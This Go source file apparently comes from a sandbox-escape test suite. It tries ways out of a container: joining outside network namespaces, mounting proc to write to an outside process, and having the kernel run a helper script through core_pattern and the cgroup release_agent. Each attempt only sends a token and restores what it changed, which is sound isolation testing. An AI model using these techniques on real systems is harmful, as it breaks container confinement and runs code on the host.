//go:build linux && (amd64 || arm64)

package escapes

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// namespaces has ways into the namespaces outside.
var namespaces = []Attempt{
	{Name: "setns-proc", Tries: "enter the network namespace of a process outside", Root: true, try: func(t *trial) error { return t.each(t.setnsProc) }},
	{Name: "setns-pidfd", Tries: "enter the network namespace of a process outside with a pidfd", Root: true, try: func(t *trial) error { return t.each(t.setnsPidfd) }},
	{Name: "setns-handle", Tries: "open a network namespace outside by its file handle", Root: true, Needs: []string{"network handle"}, try: func(t *trial) error {
		fd, err := t.openHandle(t.StandIn.HandleType[1], t.StandIn.NetNSHandle, "network")
		if err != nil {
			return err
		}
		return t.join(fd, unix.CLONE_NEWNET)
	}},
	{Name: "setns-user", Tries: "enter the network of a process outside as root of a nested user namespace", Root: true, try: func(t *trial) error {
		flags := uintptr(unix.CLONE_NEWNS)
		if t.Confined {
			flags |= unix.CLONE_NEWUSER
		}
		return t.stage(flags, "join")
	}},
	{Name: "proc-mount", Tries: "mount another proc and open a descriptor of a process outside", Root: true, try: func(t *trial) error {
		if err := t.stage(unix.CLONE_NEWNS, "proc"); err == nil || !t.Confined {
			return err
		}
		return t.stage(unix.CLONE_NEWUSER|unix.CLONE_NEWNS, "proc")
	}},
	{Name: "veth", Tries: "move one end of a new network device to a process outside", Root: true, try: func(t *trial) error {
		flags := uintptr(unix.CLONE_NEWNET)
		if t.Confined {
			flags |= unix.CLONE_NEWUSER
		}
		return t.stage(flags, "veth")
	}},
}

// privileges has ways to become more privileged, and to make the kernel run something outside.
var privileges = []Attempt{
	{Name: "setuid-program", Tries: "enter the network of a process outside with a setuid program", Needs: []string{"privileged programs"}, try: func(t *trial) error { return t.privileged(t.SetUID) }},
	{Name: "file-capabilities", Tries: "enter the network of a process outside with a program that has capabilities", Needs: []string{"privileged programs"}, try: func(t *trial) error { return t.privileged(t.FileCaps) }},
	{Name: "core-pattern", Tries: "make the kernel run a program for a core dump", Root: true, try: corePattern},
	{Name: "cgroup-release", Tries: "make the kernel run a program at the end of a cgroup", Root: true, Needs: []string{"cgroup"}, try: cgroupRelease},
}

// join enters a namespace, if need be, and connects to a target.
func (t *trial) join(fd, kind int) error {
	if err := unix.Setns(fd, kind); err != nil {
		return fmt.Errorf("setns: %w", err)
	}
	return t.dial("tcp4", "127.0.0.1")
}

func (t *trial) setnsProc(pid int) error {
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/net", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return t.joined(t.join(fd, unix.CLONE_NEWNET))
}

func (t *trial) setnsPidfd(pid int) error {
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return t.joined(t.join(fd, unix.CLONE_NEWNET))
}

// joined lets the next process be tried if this one's network was not the one outside.
func (t *trial) joined(err error) error {
	if t.Confined {
		return err
	}
	return nil
}

func stageJoin(t *trial, _ []string) error { return t.each(t.setnsProc) }

// stageProc mounts a proc and looks for the process outside in it.
func stageProc(t *trial, _ []string) error {
	to, err := os.MkdirTemp(t.Dir, "proc")
	if err != nil {
		return err
	}
	defer os.Remove(to)
	if err := unix.Mount("", "/", "", unix.MS_PRIVATE|unix.MS_REC, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	if err := unix.Mount("proc", to, "proc", 0, ""); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	defer unix.Unmount(to, unix.MNT_DETACH)
	file, err := os.OpenFile(filepath.Join(to, strconv.Itoa(t.StandIn.PID), "fd/1"), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.WriteString(t.Token() + "\n")
	return err
}

// privileged runs this program with privileges that its file has.
func (t *trial) privileged(program string) error {
	args := append(t.Self[1:len(t.Self):len(t.Self)], "stage", t.world(), t.Name, "join")
	return t.stageWith(exec.Command(program, args...), 0)
}

// helper writes a program that sends the token to a Unix socket.
func (t *trial) helper() (string, error) {
	file := filepath.Join(t.Dir, "h-"+t.Name)
	var command strings.Builder
	for _, word := range append(t.Self[:len(t.Self):len(t.Self)], "stage", t.world(), t.Name, "unix") {
		command.WriteString(" '" + word + "'")
	}
	return file, os.WriteFile(file, []byte("#!/bin/sh\nexec"+command.String()+"\n"), 0o755)
}

// corePattern sets the program that receives core dumps (core(5)), lets a process crash, and puts
// back what was there.
func corePattern(t *trial) error {
	const file = "/proc/sys/kernel/core_pattern"
	before, err := os.ReadFile(file)
	if err != nil {
		return err
	}
	helper, err := t.helper()
	if err != nil {
		return err
	}
	if err := os.WriteFile(file, []byte("|"+helper), 0); err != nil {
		return err
	}
	defer os.WriteFile(file, before, 0)
	cmd := exec.Command("/bin/sh", "-c", "ulimit -c unlimited; kill -SEGV $$")
	return cmd.Run()
}

// cgroupRelease sets the program that runs when the last process of a cgroup ends (cgroups(7)), and
// puts back what was there.
func cgroupRelease(t *trial) error {
	roots, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	var errs []error
	for _, agent := range roots {
		err := t.release(agent)
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(append(errs, errors.New("no release_agent could be used"))...)
}

func (t *trial) release(agent string) error {
	before, err := os.ReadFile(agent)
	if err != nil {
		return err
	}
	group := filepath.Join(filepath.Dir(agent), "rg-"+t.Run)
	if err := os.Mkdir(group, 0o755); err != nil {
		return err
	}
	defer os.Remove(group)
	helper, err := t.helper()
	if err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(group, "notify_on_release"), []byte("1"), 0); err != nil {
		return err
	}
	if err := os.WriteFile(agent, []byte(helper), 0); err != nil {
		return err
	}
	defer os.WriteFile(agent, append(before, '\n'), 0)
	err = exec.Command("/bin/sh", "-c", "echo $$ > "+group+"/cgroup.procs").Run()
	time.Sleep(200 * time.Millisecond) // the kernel starts the program after the end of the process
	return err
}

// stageVeth makes a pair of devices, one end of which is in another process's network namespace. The
// target sees it there.
func stageVeth(t *trial, _ []string) error {
	return t.each(func(pid int) error {
		if err := newVeth(pid); err != nil {
			return err
		}
		time.Sleep(200 * time.Millisecond) // the devices end with this process
		return t.joined(errors.New("the device was made"))
	})
}

// vethName is the name of the end outside.
const vethName = "rgveth1"

// newVeth makes a pair of devices. The second is put into the network namespace of a process
// (rtnetlink(7); struct ifinfomsg before the attributes of the peer).
func newVeth(pid int) error {
	attribute := func(kind uint16, value []byte) []byte {
		a := binary.NativeEndian.AppendUint16(nil, uint16(4+len(value)))
		a = append(binary.NativeEndian.AppendUint16(a, kind), value...)
		return append(a, make([]byte, -len(a)&3)...)
	}
	device := make([]byte, unix.SizeofIfInfomsg)
	const vethInfoPeer = 1
	peer := append(device[:len(device):len(device)], attribute(unix.IFLA_IFNAME, []byte(vethName+"\x00"))...)
	peer = append(peer, attribute(unix.IFLA_NET_NS_PID, binary.NativeEndian.AppendUint32(nil, uint32(pid)))...)
	info := append(attribute(unix.IFLA_INFO_KIND, []byte("veth")), attribute(unix.IFLA_INFO_DATA, attribute(vethInfoPeer, peer))...)
	body := append(device, attribute(unix.IFLA_IFNAME, []byte("rgveth0\x00"))...)
	body = append(body, attribute(unix.IFLA_LINKINFO, info)...)

	header := make([]byte, unix.NLMSG_HDRLEN)
	binary.NativeEndian.PutUint32(header, uint32(len(header)+len(body)))
	binary.NativeEndian.PutUint16(header[4:], unix.RTM_NEWLINK)
	binary.NativeEndian.PutUint16(header[6:], unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE|unix.NLM_F_EXCL)
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, append(header, body...), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil {
		return err
	}
	if n < unix.NLMSG_HDRLEN+4 {
		return errors.New("short answer")
	}
	if code := int32(binary.NativeEndian.Uint32(answer[unix.NLMSG_HDRLEN:])); code != 0 {
		return fmt.Errorf("new device: %w", unix.Errno(-code))
	}
	return nil
}
